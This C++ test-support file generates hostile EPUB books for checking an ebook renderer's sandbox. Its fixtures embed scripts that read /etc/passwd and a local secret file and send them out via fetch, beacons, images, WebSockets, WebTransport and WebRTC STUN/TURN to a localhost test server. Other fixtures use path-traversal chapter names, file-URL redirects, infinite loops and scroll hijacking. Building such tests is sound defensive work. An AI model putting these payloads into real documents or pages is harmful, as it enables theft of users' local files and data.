#include "support/hostile_books.h"

#include "support/temp_dir.h"
#include "zipwriter/fixture_book.h"

namespace qm::test {

namespace {

// A chapter of kChapterColour with `extra` in it.
std::string Chapter(const std::string& extra, int height = 400) {
    return FixturePage("<div style='height:" + std::to_string(height) + "px;background:#20a040'></div>" + extra);
}

std::string Script(const std::string& code) {
    return "<script>//<![CDATA[\n" + code + "\n//]]></script>";
}

} // namespace

void WriteScriptColourBook(const std::string& path) {
    WriteZipFile(path,
                 FixtureEpub({{"paint.xhtml", Chapter(Script("document.body.style.background = 'red';")), "Paint"}}));
}

void WriteSecretPage(const std::string& path) {
    WriteFile(path, "<html><body style='margin:0;background:#ff00ff'><p>secret</p></body></html>");
}

std::vector<HostileBook> WriteHostileBooks(const std::string& folder, const std::string& secretPage, int port) {
    const std::string secret = "file://" + secretPage;
    const std::string home = "http://127.0.0.1:" + std::to_string(port) + "/";
    const std::string ws = "ws://127.0.0.1:" + std::to_string(port) + "/";
    struct Definition {
        std::string name;
        std::vector<FixtureFile> spine;
        std::vector<int> missingRows;
        int crashAtChapter = 0;
        bool mayMiss = false;
        bool refusedAtOnce = false;
    };
    // Peer connections reach servers the request interceptor never sees: STUN and TURN over UDP and TCP, with a
    // data channel, from the page itself and from an empty frame it makes.
    const std::string address = "127.0.0.1:" + std::to_string(port);
    const std::string peers =
        "var servers = [{urls: ['stun:" + address + "', 'turn:" + address + "?transport=udp', 'turn:" + address +
        "?transport=tcp'], username: 'EXFIL-' + document.body.textContent.slice(0, 20), credential: 'x'}];"
        "function call(Connection) {"
        "  try {"
        "    var connection = new Connection({iceServers: servers, iceCandidatePoolSize: 4});"
        "    connection.createDataChannel('leak');"
        "    connection.createOffer().then(function (offer) { return connection.setLocalDescription(offer); });"
        "  } catch (e) {}"
        "}"
        "call(window.RTCPeerConnection);"
        "call(window.webkitRTCPeerConnection);"
        "var frame = document.createElement('iframe');"
        "document.body.appendChild(frame);"
        "call(frame.contentWindow.RTCPeerConnection);";
    std::string bands;
    for (int i = 0; i < 12; ++i) {
        bands += "<div style='height:1000px;background:#20a040'></div>";
    }
    const std::vector<Definition> definitions = {
        {"reads-files-and-sends-them",
         {{"read.xhtml",
           Chapter(Script("function leak(text) { document.body.style.background = '#ff00ff';"
                          "  fetch('" +
                          home +
                          "?' + encodeURIComponent(text.slice(0, 100))); }"
                          "fetch('" +
                          secret +
                          "').then(function (r) { return r.text(); }).then(leak);"
                          "var x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd');"
                          "x.onload = function () { leak(x.responseText); }; x.send();"
                          "navigator.sendBeacon('" +
                          home +
                          "', 'beacon');"
                          "var i = new Image(); i.src = '" +
                          home + "image';")),
           "Reader"}}},
        {"websocket", {{"ws.xhtml", Chapter(Script("new WebSocket('" + ws + "');")), "Socket"}}},
        {"web-transport",
         {{"transport.xhtml",
           Chapter(Script("try { new WebTransport('https://" + address +
                          "/'); } catch (e) {}"
                          "var worker = 'try { new WebTransport(\\'https://" +
                          address +
                          "/w\\'); } catch (e) {}';"
                          "try { new Worker(URL.createObjectURL(new Blob([worker]))); } catch (e) {}")),
           "Transport"}}},
        {"peer-connection",
         {{"peers.xhtml", Chapter("<p>Secret chapter text</p>" + Script(peers)), "Peers"},
          {"after.xhtml", Chapter(""), "After"}}},
        {"script-clicks-an-external-link",
         {{"click.xhtml",
           Chapter("<a id='out' href='https://example.com/'>out</a>" +
                   Script("for (var n = 0; n < 20; ++n) document.getElementById('out').click();")),
           "Click"}}},
        {"meta-refresh-outside",
         {{"refresh.xhtml",
           "<html xmlns='http://www.w3.org/1999/xhtml'><head><meta http-equiv='refresh' content='0;url=" + secret +
               "'/></head><body style='margin:0'><div style='height:400px;background:#20a040'></div></body></html>",
           "Refresh"}}},
        {"location-outside", {{"location.xhtml", Chapter(Script("location = '" + secret + "';")), "Location"}}},
        {"iframe-of-outside-file",
         {{"frame.xhtml", Chapter("<iframe src='" + secret + "' style='width:400px;height:300px;border:0'></iframe>"),
           "Frame"}}},
        {"missing-chapter-file",
         {{"here.xhtml", Chapter(""), "Here"}, {"gone.xhtml", "", "Gone"}, {"after.xhtml", Chapter(""), "After"}},
         {2}},
        {"chapters-out-of-the-book",
         {{"../../../../../../../../etc/passwd.xhtml", "", "Passwords"},
          {"%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/hostname.xhtml", "", "Host"},
          {"here.xhtml", Chapter(""), "Here"},
          {"../outside.xhtml", "", "Outside"}},
         {1, 2, 4},
         0,
         false,
         true},
        {"loop-after-load",
         {{"loop.xhtml", Chapter(Script("setTimeout(function () { for (;;) {} }, 0);")), "Loop"},
          {"next.xhtml", Chapter(""), "Next"}},
         {1}},
        {"scrolls-itself-back",
         {{"back.xhtml",
           FixturePage(bands + Script("window.addEventListener('scroll', function () { window.scrollTo(0, 0); });")),
           "Back"}},
         {1},
         0,
         true},
        {"crashed-page-process",
         {{"c1.xhtml", Chapter(""), "One"},
          {"c2.xhtml", Chapter(""), "Two"},
          {"c3.xhtml", Chapter(""), "Three"},
          {"c4.xhtml", Chapter(""), "Four"},
          {"c5.xhtml", Chapter(""), "Five"}},
         {3},
         3,
         true},
    };
    std::vector<HostileBook> books;
    for (const Definition& definition : definitions) {
        HostileBook book;
        book.name = definition.name;
        book.path = folder + "/" + definition.name + ".epub";
        book.missingRows = definition.missingRows;
        book.chapters = static_cast<int>(definition.spine.size());
        book.crashAtChapter = definition.crashAtChapter;
        book.mayMiss = definition.mayMiss;
        book.refusedAtOnce = definition.refusedAtOnce;
        WriteZipFile(book.path, FixtureEpub(definition.spine));
        books.push_back(book);
    }
    return books;
}

} // namespace qm::test
